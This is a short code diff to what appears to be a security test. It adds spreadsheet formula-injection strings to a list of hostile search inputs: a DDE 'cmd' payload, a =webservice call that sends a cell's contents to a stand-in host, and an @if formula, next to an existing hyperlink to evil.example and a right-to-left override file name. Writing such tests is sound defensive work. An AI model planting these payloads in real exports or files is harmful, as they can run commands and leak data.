@@ -29,6 +29,9 @@ HOSTILE_SEARCHES = (
     "invoice\u202egnp.exe",
     '\uff1dhyperlink("http://evil.example")',
     "S_0123456789ABCDEF",
+    "+sum(7+7)*cmd|'/c notepad'!a0",
+    '=webservice("http://x.example/"&a1)',
+    "@if(1,2)",
 )
 SEARCH_SECRETS = ("hospital.internal", "stmarys", "555-867-5309", "\u202e", "s_0123456789abcdef")
 SEARCHERS = 300
